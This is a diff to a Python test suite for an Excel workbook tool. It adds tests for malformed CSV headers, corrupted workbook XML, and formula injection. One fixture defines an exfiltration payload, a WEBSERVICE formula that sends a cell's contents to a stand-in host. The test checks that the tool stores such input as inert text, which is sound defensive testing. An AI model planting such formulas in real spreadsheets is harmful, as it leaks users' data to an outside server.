@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import datetime as dt
+import re
 import shutil
+import zipfile
 from collections.abc import Callable
 from decimal import Decimal
 from functools import partial
@@ -21,6 +23,7 @@ from smarketing_xl.errors import WorkbookError
 from smarketing_xl.hosts import opened
 from smarketing_xl.schema import named_cells, tables
 from tests.hosts.excel.strict import ERRORS, StrictExcel, strict_excel
+from tests.hosts.file.valid import schema_faults
 from tests.ingest.whatsapp_chats import FORMATS
 
 NOW = sample.AS_OF
@@ -104,10 +107,11 @@ def _chats(book: xw.Book) -> tuple[Path, Path]:
 
 
 def _more(book: xw.Book) -> Path:
+    """With headers that no table of Excel takes as they are."""
     path = Path(book.fullname).with_name("more.csv")
-    path.write_text(
-        "Lead ID,Company\nL1,Other\nL2,Again\nL5,More\nL900,New firm\n", encoding="utf-8"
-    )
+    hostile = ",".join(("n" * 300, "a_x000D_b", "bell\x07", "company ", "=1+1", "<&>", "n" * 300))
+    rows = [f"{lead},{'x,' * 7}y" for lead in ("L1,Other", "L2,Again", "L5,More", "L900,New firm")]
+    path.write_text("\n".join([f"Lead ID,Company,{hostile},'", *rows, ""]), encoding="utf-8")
     return path
 
 
@@ -151,9 +155,10 @@ def test_an_action_fills_a_filtered_workbook_as_any_other(
     path: Path, tmp_path: Path, name: str
 ) -> None:
     plain = Path(shutil.copy(path, tmp_path / "plain.xlsm"))
-    with opened(plain, "file", save=False) as book:
+    with opened(plain, "file") as book:
         ACTIONS[name](book)
         wanted = contents(book)
+    assert schema_faults(plain) == []
     with strict_excel(path) as state:
         filtered(state)
         before = {table: dict(it.wanted) for table, it in state.filters.items() if it.wanted}
@@ -164,6 +169,26 @@ def test_an_action_fills_a_filtered_workbook_as_any_other(
         assert state.book.app.screen_updating and state.book.app.calculation == "automatic"
         assert state.writes and not state.drawn_writes
         assert contents(state.book) == wanted
+
+
+@pytest.mark.parametrize(
+    ("part", "right", "wrong"),
+    [
+        ("xl/tables/table1.xml", b"tableColumns", b"tableColums"),
+        ("xl/worksheets/sheet3.xml", b"<sheetData>", b"<sheetDate/><sheetData>"),
+        ("xl/workbook.xml", b"<definedName ", b'<definedName hiden="1" '),
+    ],
+)
+def test_the_schema_notices_a_broken_workbook(
+    path: Path, part: str, right: bytes, wrong: bytes
+) -> None:
+    with zipfile.ZipFile(path) as old:
+        parts = {name: old.read(name) for name in old.namelist()}
+    assert right in parts[part]
+    with zipfile.ZipFile(path, "w") as new:
+        for name, data in parts.items():
+            new.writestr(name, data.replace(right, wrong) if name == part else data)
+    assert schema_faults(path)
 
 
 @pytest.mark.parametrize("name", READERS)
@@ -268,3 +293,46 @@ def test_a_workbook_that_only_a_cloud_has_is_filled(path: Path) -> None:
         state.in_cloud = True
         actions.import_file(state.book, source, "leads")
         assert "L900" in read.read_table(state.book, tables.LEADS)["lead_id"].tolist()
+
+
+ATTACK = '=WEBSERVICE("http://example.com/?"&A1)'
+
+
+@pytest.mark.parametrize("host", ["file", "excel"])
+def test_repair_and_undo_leave_a_text_that_begins_a_formula_text(host: str, path: Path) -> None:
+    with opened(path, "file") as book:
+        leads = path.with_name("more.csv")
+        quoted = ATTACK.replace('"', '""')
+        leads.write_text(f'Lead ID,Company,Income\nL900,"{quoted}",10\n')
+        actions.import_file(book, leads, "leads")
+        place = read.find_table(book, tables.LEADS)
+        row = read.raw_frame(place)["lead_id"].eq("L900").to_numpy().argmax()
+        place.block(int(row), place.offsets["income"], 1, 1).value = "1,200.50 €"
+        place.block(int(row), place.offsets["name"], 1, 1).value = ATTACK
+        place.block(-1, place.offsets["owner"], 1, 1).value = ATTACK
+
+    def mended(book: xw.Book) -> None:
+        actions.repair(book)
+        lead = read.read_table(book, tables.LEADS).set_index("lead_id").loc["L900"]
+        assert (lead["name"], lead["company"], lead["income"]) == (ATTACK, ATTACK, 1200.5)
+        actions.undo(book)
+        cells = read.raw_frame(read.find_table(book, tables.LEADS)).set_index("lead_id")
+        assert cells.loc["L900", ["name", "company", "income"]].tolist() == [
+            ATTACK,
+            ATTACK,
+            "1,200.50 €",
+        ]
+
+    if host == "file":
+        with opened(path, "file") as book:
+            mended(book)
+        assert b"WEBSERVICE" not in b"".join(re.findall(rb"<f>[^<]*</f>", _sheets(path)))
+        return
+    with strict_excel(path) as state:
+        mended(state.book)
+
+
+def _sheets(path: Path) -> bytes:
+    with zipfile.ZipFile(path) as package:
+        names = [name for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
+        return b"".join(map(package.read, names))
